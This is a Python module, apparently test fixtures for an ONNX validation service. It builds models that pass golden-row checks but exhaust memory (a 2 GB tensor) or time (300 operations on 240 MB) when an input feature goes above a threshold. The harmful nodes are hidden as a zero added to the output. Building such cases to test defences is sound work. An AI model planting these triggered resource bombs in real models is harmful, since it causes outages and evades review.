"""Graphs that an attacker could write: valid ONNX files with allowed operators that use too much time or memory.

Each graph computes the golden rows of its bundle correctly, and does harm only for a row whose turnover is above a
threshold.
"""

from collections.abc import Callable

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

TURNOVER = 2  # index of the feature of the small family that a caller may choose freely
THRESHOLD = 1e9  # no golden row has a turnover above this
_Nodes = Callable[[onnx.GraphProto], str]


def _add_constant(graph: onnx.GraphProto, name: str, value: object, kind: type) -> str:
    """Add an initializer; return its name."""
    graph.initializer.append(numpy_helper.from_array(np.array(value, dtype=kind), name))
    return name


def _add_size(graph: onnx.GraphProto, size: int) -> str:
    """Add a shape tensor: [size] if the turnover of a row is above the threshold, [1] otherwise; return its name."""
    _add_constant(graph, "column", [TURNOVER], np.int64)
    _add_constant(graph, "large", [size], np.int64)
    _add_constant(graph, "single", [1], np.int64)
    _add_constant(graph, "zero", [0], np.int64)
    graph.node.extend(
        [
            helper.make_node("Gather", ["rows", "column"], ["first"], axis=1),
            helper.make_node("Greater", ["first", "threshold"], ["over"]),
            helper.make_node("Cast", ["over"], ["over_number"], to=TensorProto.DOUBLE),
            helper.make_node("ReduceSum", ["over_number", "both"], ["count"], keepdims=0),
            helper.make_node("Cast", ["count"], ["is_over"], to=TensorProto.BOOL),
            helper.make_node("Where", ["is_over", "large", "single"], ["size"]),
        ]
    )
    _add_constant(graph, "both", [0, 1], np.int64)
    return "size"


def fill_memory(graph: onnx.GraphProto) -> str:
    """Add a tensor of 2 GB; return its name."""
    return _expand(graph, _add_size(graph, 2**28))


def use_time(graph: onnx.GraphProto) -> str:
    """Add 300 operations on a tensor of 240 MB; return the name of the result.

    The operations are not additions of zero, because ONNX Runtime removes such additions.
    """
    name = _expand(graph, _add_size(graph, 30_000_000))
    for index in range(300):
        graph.node.append(helper.make_node(("Abs", "Floor")[index % 2], [name], [f"step{index}"]))
        name = f"step{index}"
    return name


def _expand(graph: onnx.GraphProto, size: str) -> str:
    """Add a tensor of zeros with this shape; return its name."""
    _add_constant(graph, "nothing", [0.0], np.float64)
    graph.node.append(helper.make_node("Expand", ["nothing", size], ["zeros"]))
    return "zeros"


def attack(content: bytes, harm: _Nodes, threshold: float = THRESHOLD) -> bytes:
    """Add the nodes of `harm` to a graph, and their sum, which is zero, to its margin; return the changed ONNX file."""
    model = onnx.load_from_string(content)
    graph = model.graph
    _add_constant(graph, "threshold", threshold, np.float64)
    for node in graph.node:
        node.output[:] = ["honest" if name == "margin" else name for name in node.output]
    harmful = harm(graph)
    graph.node.extend(
        [
            helper.make_node("ReduceSum", [harmful, "zero"], ["harm"], keepdims=1),
            helper.make_node("Add", ["honest", "harm"], ["margin"]),
        ]
    )
    return model.SerializeToString()
